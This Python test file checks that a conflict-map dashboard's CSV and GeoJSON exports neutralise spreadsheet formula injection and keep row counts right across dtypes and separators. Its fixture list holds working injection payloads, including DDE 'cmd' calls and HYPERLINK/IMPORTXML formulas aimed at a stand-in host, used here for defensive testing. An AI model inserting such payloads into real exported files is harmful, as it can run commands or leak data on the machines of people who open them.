"""Every table the product writes, fed hostile text in every dtype that can hold text.

Issue 16, item 3: text stored as a categorical (as the page keeps its table) bypassed the
spreadsheet neutraliser, and a bare carriage return went out unquoted, so the file read back
with more rows than were written. Each writer here gets the same ~60 hostile values stored
as object, categorical, ``StringDtype`` (Python and pyarrow) and ``ArrowDtype`` strings, and
is read back as a spreadsheet would (Python's ``csv`` module, default dialect) and with
``pandas.read_csv``: same number of rows, no cell that a spreadsheet would run, every value
recovered exactly once the one added ``'`` is dropped (:func:`tableexport.restore`).

Issue 16 again: a spreadsheet does not always split at the file's ``,``. Excel in a locale
whose list separator is ``;`` (most of continental Europe) splits at ``;`` and takes a ``"``
in the middle of a field as text, so ``E1,Mosul;=1+1`` gave a live ``=1+1`` cell, and a line
break inside a quoted value started a new row there; LibreOffice splits at tab when asked.
Every file is therefore also read with ``;`` and tab as the separator (both readers), and no
cell found any of these six ways may be a live formula.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import os
import re
import subprocess
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from app_fixtures import EVENTS_HEADER, areas_doc
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from dashboard import arealedger, paths, pipeline, schema
from dashboard.app.loaders import AREAS_ENV, EVENTS_ENV
from dashboard.tableexport import restore, to_csv_bytes, to_csv_text, to_geojson_bytes, write_csv

# Each test builds into a cache of its own (app_fixtures.private_build_cache).
pytestmark = pytest.mark.usefixtures("private_build_cache")

HOSTILE: list[str] = [
    # formulas with each prefix
    '=HYPERLINK("http://evil.example/x","click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    # tab-, CR- and LF-led
    "\t=1+1",
    "\tplain text after a tab",
    "\r=1+1",
    "\rtext after a carriage return",
    "\n=1+1",
    # leading white space or invisible characters before a formula
    " =1+1",
    "   @SUM(A1)",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u200f@SUM(A1)",
    "\x0b=1+1",
    # full-width and other forms NFKC folds to = + - @
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    # line breaks inside a value
    "a\rb",
    "a\nb",
    "a\r\nb",
    "trailing carriage return\r",
    "\r",
    "\r\n",
    "two\r\rbreaks\n\nhere",
    # quotes and delimiters
    'say "hi"',
    '"',
    '""=1+1"',
    "a,b",
    "a;b",
    "=a,b;c",
    "x,=1+1",
    # a formula after a ; or a tab (a cell start where ; or tab is the separator)
    "Mosul;=1+1",
    "x\t@SUM(1)",
    "a;+cmd|' /C calc'!A0",
    "a; =1",
    'a;"=1"',
    'a;""=1',
    "a;-1",
    "a;\t=1",
    "a;'=1",
    # a formula after a line break (a record start where the reader misses the quoting)
    "first line\n=1+1",
    "first line\r\n-2+3",
    "bullet\r@SUM(1)",
    # Arabic, emoji, NUL
    "الموصل",
    "=الموصل",
    "داعش\r\nالرقة",
    "🚀 launch",
    "=😀",
    "a\x00b",
    "\x00=1+1",
    # a ' already leading
    "'already quoted",
    "'=1+1",
    "''=1+1",
    "'",
    "' =1+1",
    # plain numbers as text: stay as they are
    "-12.5",
    "+3",
    "-1e5",
    "-.5",
    # near misses and other text
    "-",
    "--",
    "-12.5 km",
    "C:\\users",
    "${7*7}",
    "{{7*7}}",
    "1,5",
    "  ",
]
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
HOSTILE_HEADERS = ["=cmd", "@x", "+y", "-z", "\tcol", " =sp", "＝w", "'=q"]
APP = str(Path(paths.PACKAGE_DIR) / "app" / "main.py")
APP_TIMEOUT = 120
STORAGES = ["object", "category", "string", "string[pyarrow]", "arrow"]


def live_formula(cell: str) -> bool:
    """Whether a spreadsheet could run ``cell`` (the rule the module states, written apart).

    A ``"`` that a reader left around the text (it took the field for unquoted) is stripped
    before looking for the first visible character: the spreadsheet may drop it and read on.
    """
    inner = cell.lstrip('"')
    if PLAIN_NUMBER.fullmatch(inner.rstrip('"')):
        return False
    if cell.startswith(("\t", "\r")):
        return True
    for ch in inner:
        if ch == '"' or ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf"):
            continue
        return unicodedata.normalize("NFKC", ch)[:1] in "=+-@"
    return False


# The separators a spreadsheet may split the product's ``,`` files at.
SEPARATORS = {"comma": ",", "semicolon": ";", "tab": "\t"}


def cells_as_read(data: bytes) -> dict[str, list[str]]:
    """Every cell of a CSV file as each reader finds it, splitting at ``,``, ``;`` or tab.

    Python's ``csv`` module and ``pandas.read_csv``; where the separator is not the file's
    own, rows split and join differently, so cells are listed, not rows.
    """
    text = data.decode("utf-8-sig")
    found: dict[str, list[str]] = {}
    for name, separator in SEPARATORS.items():
        records = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        found[f"csv module, {name}"] = [c for r in records for c in r]
        try:
            frame = _read_every_cell_with_pandas(text, separator)
        except pd.errors.ParserError as error:
            # A quote that a ; or tab reader opens and never sees closed: pandas refuses
            # the whole file (no cell, nothing runs). Only where the split is not ours.
            assert separator != ",", error
            found[f"pandas, {name}"] = []
        else:
            found[f"pandas, {name}"] = [str(c) for c in frame.to_numpy().ravel()]
    return found


def _read_every_cell_with_pandas(text: str, separator: str) -> pd.DataFrame:
    """Every cell, however many a row holds: as many columns named as the widest line needs.

    A record spanning lines (a quote open over a line break) may hold more; pandas then
    turns the extra leading cells into the index, and the file is read again with as many
    columns as the whole file has separators (always enough).
    """
    widest = max(line.count(separator) for line in text.splitlines() or [""]) + 1
    for width in (widest, text.count(separator) + 1):
        frame = pd.read_csv(
            io.StringIO(text),
            sep=separator,
            header=None,
            names=range(width),
            dtype=str,
            keep_default_na=False,
        )
        if isinstance(frame.index, pd.RangeIndex):
            break
    return frame


def assert_runs_nothing(data: bytes) -> None:
    """No cell of ``data``, read any of the six ways, is a live formula."""
    for way, cells in cells_as_read(data).items():
        live = [c for c in cells if live_formula(c)]
        assert live == [], (way, live[:5])


def _store(values: list[str], storage: str) -> pd.Series:
    if storage == "object":
        return pd.Series(values, dtype=object)
    if storage == "category":
        return pd.Series(values, dtype="category")
    if storage == "arrow":
        return pd.Series(values, dtype=pd.ArrowDtype(pa.string()))
    return pd.Series(values, dtype=storage)


def hostile_table(storage: str) -> pd.DataFrame:
    """One row per hostile value; three text columns hold them, one under a hostile name."""
    n = len(HOSTILE)
    table = pd.DataFrame(
        {
            schema.EVENT_ID: [f"h{i:02d}" for i in range(n)],
            schema.NOTES: _store(HOSTILE, storage),
            schema.ACTOR1: _store(HOSTILE[::-1], storage),
            "=cmd|' /C calc'!A0": _store(HOSTILE[1:] + HOSTILE[:1], storage),
            schema.LATITUDE: np.linspace(-12.5, 36.5, n),
            schema.LONGITUDE: np.linspace(40.0, 44.0, n),
            schema.FATALITIES: [np.nan if i % 3 else float(-i) for i in range(n)],
        }
    )
    return table


def _read_with_csv_module(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _read_with_pandas(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8-sig")


# Each writer: the bytes it leaves for a person to open.
def _download(table: pd.DataFrame, tmp_path: Path) -> bytes:
    return to_csv_bytes(table)  # the page, compare-mode and set-aside downloads


def _csv_file(table: pd.DataFrame, tmp_path: Path) -> bytes:
    return write_csv(table, tmp_path / "geocoded.csv").read_bytes()  # conflictmap geocode -o


def _rejected(table: pd.DataFrame, tmp_path: Path) -> bytes:
    reasons = table.assign(**{schema.REJECT_REASON: "set aside", schema.SOURCE_ROW: 2})
    return pipeline.write_rejected(reasons, tmp_path / "out.parquet").read_bytes()


def _rejected_areas(table: pd.DataFrame, tmp_path: Path) -> bytes:
    set_aside = pd.DataFrame(
        {
            schema.AREA_SOURCE: table[schema.NOTES],
            schema.AREA_FEATURE: range(len(table)),
            schema.CONTROLLER: table[schema.ACTOR1],
            schema.REJECT_REASON: table["=cmd|' /C calc'!A0"],
            arealedger.REASON_KIND: table[schema.NOTES],
            arealedger.AREA_KM2: 1.5,
        }
    )
    ledger = arealedger.ledger_table(set_aside, set_aside.iloc[:0])
    ledger = ledger.astype({c: table[schema.NOTES].dtype for c in ("file", schema.CONTROLLER)})
    return pipeline.write_rejected_areas(ledger, tmp_path / "out.parquet").read_bytes()


def _cli_csv(table: pd.DataFrame, tmp_path: Path) -> bytes:
    return to_csv_text(table).encode("utf-8")  # conflictmap compare/check -f csv


WRITERS: dict[str, Callable[[pd.DataFrame, Path], bytes]] = {
    "download": _download,
    "csv_file": _csv_file,
    "rejected": _rejected,
    "rejected_areas": _rejected_areas,
    "cli_csv": _cli_csv,
}


def _expected_columns(writer: str) -> dict[str, list[str]]:
    """Hostile text each writer's file must hold, by the column name it writes."""
    if writer == "rejected_areas":
        return {
            "file": HOSTILE,
            schema.CONTROLLER: HOSTILE[::-1],
            "reason": HOSTILE[1:] + HOSTILE[:1],
            arealedger.REASON_KIND: HOSTILE,
        }
    return {
        schema.NOTES: HOSTILE,
        schema.ACTOR1: HOSTILE[::-1],
        "=cmd|' /C calc'!A0": HOSTILE[1:] + HOSTILE[:1],
    }


def _sort_key(writer: str) -> str:
    return "feature" if writer == "rejected_areas" else schema.EVENT_ID


@pytest.mark.parametrize("storage", STORAGES)
@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_every_csv_writer_reads_back_as_written_and_runs_nothing(writer, storage, tmp_path):
    data = WRITERS[writer](hostile_table(storage), tmp_path)
    expected = _expected_columns(writer)

    # The csv module, as a spreadsheet reads: one record per row written, no live formula.
    records = _read_with_csv_module(data)
    header, body = records[0], records[1:]
    assert len(body) == len(HOSTILE), (len(body), len(HOSTILE))
    assert all(len(r) == len(header) for r in body)
    assert_runs_nothing(data)
    restored_header = [restore(h) for h in header]
    for name, values in expected.items():
        column = [restore(r[restored_header.index(name)]) for r in body]
        assert column == values

    # pandas: the same rows, the same text.
    frame = _read_with_pandas(data)
    assert len(frame) == len(HOSTILE)
    assert not any(live_formula(str(c)) for c in frame.columns)
    frame.columns = [restore(c) for c in frame.columns]
    for name, values in expected.items():
        assert [restore(v) for v in frame[name]] == values


@pytest.mark.parametrize("storage", STORAGES)
def test_geojson_properties_run_nothing_and_read_back_as_written(storage):
    table = hostile_table(storage)
    doc = json.loads(to_geojson_bytes(table).decode("utf-8"))
    features = doc["features"]
    assert len(features) == len(HOSTILE)
    for feature in features:
        for key, value in feature["properties"].items():
            assert not live_formula(key), key
            assert not (isinstance(value, str) and live_formula(value)), (key, value)
    for name, values in _expected_columns("download").items():
        key = next(k for k in features[0]["properties"] if restore(k) == name)
        assert [restore(f["properties"][key]) for f in features] == values
    # Numbers stay numbers; a negative count is not touched.
    assert features[0]["properties"][schema.LATITUDE] == -12.5
    assert features[3]["properties"][schema.FATALITIES] == -3


@pytest.mark.parametrize("storage", STORAGES)
def test_hostile_column_names_are_neutralised_and_recoverable(storage):
    table = pd.DataFrame({name: _store(["ok", "=1+1"], storage) for name in HOSTILE_HEADERS})
    data = to_csv_bytes(table)
    records = _read_with_csv_module(data)
    assert_runs_nothing(data)
    assert [restore(h) for h in records[0]] == HOSTILE_HEADERS
    assert records[2] == ["'=1+1"] * len(HOSTILE_HEADERS)
    props = json.loads(to_geojson_bytes(table))["features"][0]["properties"]
    assert [restore(k) for k in props] == HOSTILE_HEADERS


class _Note:
    """An object that is not a ``str`` but prints as a formula."""

    def __init__(self, text: str) -> None:
        self.text = text

    def __str__(self) -> str:
        return self.text


def test_objects_that_are_not_str_are_written_as_neutralised_text():
    table = pd.DataFrame(
        {
            "mixed": pd.Series(
                [_Note("=1+1"), -12.5, 3, {"a": "=b"}, None, pd.Timestamp("2017-11-09")],
                dtype=object,
            ),
            "interval": pd.Series(pd.period_range("2017-01", periods=6, freq="M")),
            "codes": pd.Series([-1, 2, -1, 2, 3, -4], dtype="category"),
        }
    )
    rows = _read_with_csv_module(to_csv_bytes(table))[1:]
    assert [r[0] for r in rows] == ["'=1+1", "-12.5", "3", "{'a': '=b'}", "", "2017-11-09T00:00:00"]
    assert [r[2] for r in rows] == ["-1", "2", "-1", "2", "3", "-4"]  # numbers, untouched
    props = [f["properties"] for f in json.loads(to_geojson_bytes(table))["features"]]
    assert [p["mixed"] for p in props][:3] == ["'=1+1", -12.5, 3]
    assert [p["codes"] for p in props] == [-1, 2, -1, 2, 3, -4]


@pytest.mark.parametrize("first", ["event_id", "text"])
def test_every_short_text_runs_nothing_wherever_the_file_is_split(first):
    # Each text of up to three characters from those that split, quote or start a formula,
    # beside a negative number and another such text (a field a ; reader finds may run on
    # into the next cells and rows); the text column first or second.
    alphabet = [";", "\t", "\r", "\n", '"', "'", "=", "-", "1", " ", "a", ","]
    texts = ["".join(c) for n in range(1, 4) for c in itertools.product(alphabet, repeat=n)]
    columns = {
        "event_id": [f"E{i}" for i in range(len(texts))],
        "text": texts,
        "count": -1,
        "other": texts[::-1],
    }
    order = ["text", "event_id", "count", "other"] if first == "text" else list(columns)
    data = to_csv_bytes(pd.DataFrame(columns)[order])
    assert_runs_nothing(data)
    records = _read_with_csv_module(data)
    assert [restore(r[order.index("text")]) for r in records[1:]] == texts
    assert [restore(r[order.index("other")]) for r in records[1:]] == texts[::-1]


def test_a_signed_number_as_text_in_the_first_column_does_not_run_on_into_the_next_cell():
    # A ; reader's first field of the row is "-1,5*cmd|' /C calc'!A0": minus one and a half
    # times a DDE call where "," is the decimal comma.
    table = pd.DataFrame({"code": ["-1", "+2", "3"], "note": ["5*cmd|' /C calc'!A0"] * 3})
    data = to_csv_bytes(table)
    assert_runs_nothing(data)
    rows = _read_with_csv_module(data)[1:]
    assert [restore(r[0]) for r in rows] == ["-1", "+2", "3"]


def test_a_bare_carriage_return_is_quoted_and_rows_end_with_lf():
    table = pd.DataFrame({"a": pd.Series(["x\ry", "z"], dtype="category"), "b": [1, 2]})
    assert to_csv_text(table) == 'a,b\n"x\ry",1\nz,2\n'


# --- the command line: files and standard output as a user gets them --------------------------

# The readers refuse a file holding NUL bytes and read blank text as missing: not written here.
CLI_PAYLOADS = [h for h in HOSTILE if "\x00" not in h and h.strip()]


def _events_file(path: Path, *, latitude: str) -> Path:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\n")
    columns = EVENTS_HEADER.split(",")
    writer.writerow(columns)
    for i, text in enumerate(CLI_PAYLOADS):
        row = {c: "" for c in columns} | {
            schema.EVENT_ID: f"h{i:02d}",
            schema.EVENT_DATE: "2017-11-10",
            schema.EVENT_TYPE: "Battles",
            schema.SUB_EVENT_TYPE: "Non-state actor overtakes territory",
            schema.ACTOR1: text,
            schema.COUNTRY: "Iraq",
            schema.LOCATION: text,
            schema.LATITUDE: latitude,
            schema.LONGITUDE: "43.1",
            schema.SOURCE: text,
            schema.NOTES: text,
        }
        writer.writerow([row[c] for c in columns])
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def _areas_file(path: Path, controllers: list[str]) -> Path:
    """The hand-made areas plus one feature without geometry (set aside) per controller."""
    doc = areas_doc()
    for i, name in enumerate(controllers):
        properties = {"area_id": f"bad{i}", "controller": name, "valid_from": "2014-01-01"}
        doc["features"].append({"type": "Feature", "properties": properties, "geometry": None})
    path.write_text(json.dumps(doc), encoding="utf-8")
    return path


def _run(*args: str) -> subprocess.CompletedProcess[bytes]:
    """``python -m dashboard ARGS`` with output as bytes: no newline translation on the way."""
    env = dict(os.environ, PYTHONIOENCODING="utf-8")
    env.pop("CONFLICTMAP_DEBUG", None)
    return subprocess.run(
        [sys.executable, "-m", "dashboard", *args],
        capture_output=True,
        env=env,
        timeout=600,
        check=False,
    )


def _assert_reads_back(data: bytes, column: str, expected: list[str]) -> None:
    records = _read_with_csv_module(data)
    assert len(records) - 1 == len(expected), (len(records) - 1, len(expected))
    assert_runs_nothing(data)
    at = records[0].index(column)
    assert [restore(r[at]) for r in records[1:]] == expected
    frame = _read_with_pandas(data)
    assert len(frame) == len(expected)
    assert [restore(v) for v in frame[column]] == expected


def test_build_writes_set_aside_rows_and_areas_that_read_back_as_written(tmp_path):
    events = _events_file(tmp_path / "events.csv", latitude="95")  # every row set aside
    controllers = CLI_PAYLOADS[:6]
    areas = _areas_file(tmp_path / "areas.geojson", controllers)
    done = _run("build", str(events), "--areas", str(areas), "-o", str(tmp_path / "o.parquet"))
    assert b"Traceback" not in done.stdout + done.stderr, done.stderr
    rejected = (tmp_path / "o.rejected.csv").read_bytes()
    _assert_reads_back(rejected, schema.NOTES, CLI_PAYLOADS)
    _assert_reads_back(rejected, schema.LOCATION, CLI_PAYLOADS)
    rejected_areas = (tmp_path / "o.rejected-areas.csv").read_bytes()
    _assert_reads_back(rejected_areas, schema.CONTROLLER, controllers)


def test_geocode_output_and_check_csv_read_back_as_written(tmp_path):
    events = _events_file(tmp_path / "events.csv", latitude="36.3")
    done = _run("geocode", str(events), "-o", str(tmp_path / "geocoded.csv"))
    assert done.returncode == 0, done.stderr
    _assert_reads_back((tmp_path / "geocoded.csv").read_bytes(), schema.NOTES, CLI_PAYLOADS)

    areas = _areas_file(tmp_path / "areas.geojson", [])
    done = _run("check", "--events", str(events), "--areas", str(areas), "--all", "-f", "csv")
    assert b"Traceback" not in done.stdout + done.stderr, done.stderr
    _assert_reads_back(done.stdout, schema.LOCATION, CLI_PAYLOADS)


# --- the page: its table kept as categoricals, downloaded as a browser would ---------------------


@pytest.fixture
def media(monkeypatch) -> list[MediaFileManager]:
    """The media file manager of each AppTest run (the last one is the current page's)."""
    managers: list[MediaFileManager] = []

    class Recording(MediaFileManager):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            managers.append(self)

    monkeypatch.setattr("streamlit.testing.v1.app_test.MediaFileManager", Recording)
    return managers


def _page_download(at: AppTest, media: list[MediaFileManager], label: str) -> bytes:
    """The bytes a click on the download button ``label`` gives the browser."""
    found = [b for b in at.get("download_button") if b.label == label]
    assert len(found) == 1, [b.label for b in at.get("download_button")]
    proto = found[0].proto
    manager = media[-1]
    if proto.HasField("deferred_file_id"):
        url = manager.execute_deferred(proto.deferred_file_id)
    else:
        url = proto.url
    stored = manager.read_file(url.rsplit("/", 1)[-1])
    assert stored is not None, url
    return stored.content


def _page_rows(path: Path) -> list[str]:
    """Each payload twice in the default window (so the page keeps text as categoricals),
    and each once with latitude 95 (set aside)."""
    rows = []
    for copy, latitude in (("a", "36.3"), ("b", "36.31"), ("x", "95")):
        for i, text in enumerate(CLI_PAYLOADS):
            rows.append((f"{copy}{i:02d}", text, latitude))
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\n")
    columns = EVENTS_HEADER.split(",")
    writer.writerow(columns)
    for event_id, text, latitude in rows:
        row = {c: "" for c in columns} | {
            schema.EVENT_ID: event_id,
            schema.EVENT_DATE: "2017-11-10",
            schema.EVENT_TYPE: "Battles",
            schema.ACTOR1: text,
            schema.COUNTRY: "Iraq",
            schema.LOCATION: text,
            schema.LATITUDE: latitude,
            schema.LONGITUDE: "43.1",
            schema.SOURCE: text,
            schema.NOTES: text,
        }
        writer.writerow([row[c] for c in columns])
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return [event_id for event_id, _, _ in rows]


def test_page_downloads_of_a_categorical_table_read_back_as_written(tmp_path, monkeypatch, media):
    events = tmp_path / "data" / "events.csv"
    ids = _page_rows(events)
    areas = _areas_file(tmp_path / "data" / "areas.geojson", [])
    monkeypatch.setenv(EVENTS_ENV, str(events))
    monkeypatch.setenv(AREAS_ENV, str(areas))
    at = AppTest.from_file(APP, default_timeout=APP_TIMEOUT).run()
    assert not at.exception, [e.value for e in at.exception]
    text_of = {i: CLI_PAYLOADS[int(i[1:])] for i in ids}
    shown = sorted(i for i in ids if not i.startswith("x"))

    page_csv = _page_download(at, media, "Download CSV")
    records = _read_with_csv_module(page_csv)
    assert_runs_nothing(page_csv)
    header, body = records[0], records[1:]
    assert sorted(r[header.index(schema.EVENT_ID)] for r in body) == shown
    for name in (schema.NOTES, schema.LOCATION, schema.ACTOR1, schema.SOURCE):
        at_column = header.index(name)
        for r in body:
            assert restore(r[at_column]) == text_of[r[header.index(schema.EVENT_ID)]], name
    assert len(_read_with_pandas(page_csv)) == len(shown)

    doc = json.loads(_page_download(at, media, "Download GeoJSON"))
    assert len(doc["features"]) == len(shown)
    for feature in doc["features"]:
        props = feature["properties"]
        assert not [v for v in props.values() if isinstance(v, str) and live_formula(v)]
        assert restore(props[schema.NOTES]) == text_of[props[schema.EVENT_ID]]

    set_aside = _page_download(at, media, "Rows set aside (CSV)")
    records = _read_with_csv_module(set_aside)
    assert_runs_nothing(set_aside)
    header, body = records[0], records[1:]
    assert sorted(r[header.index(schema.EVENT_ID)] for r in body) == sorted(
        i for i in ids if i.startswith("x")
    )
    for r in body:
        assert restore(r[header.index(schema.NOTES)]) == text_of[r[header.index(schema.EVENT_ID)]]
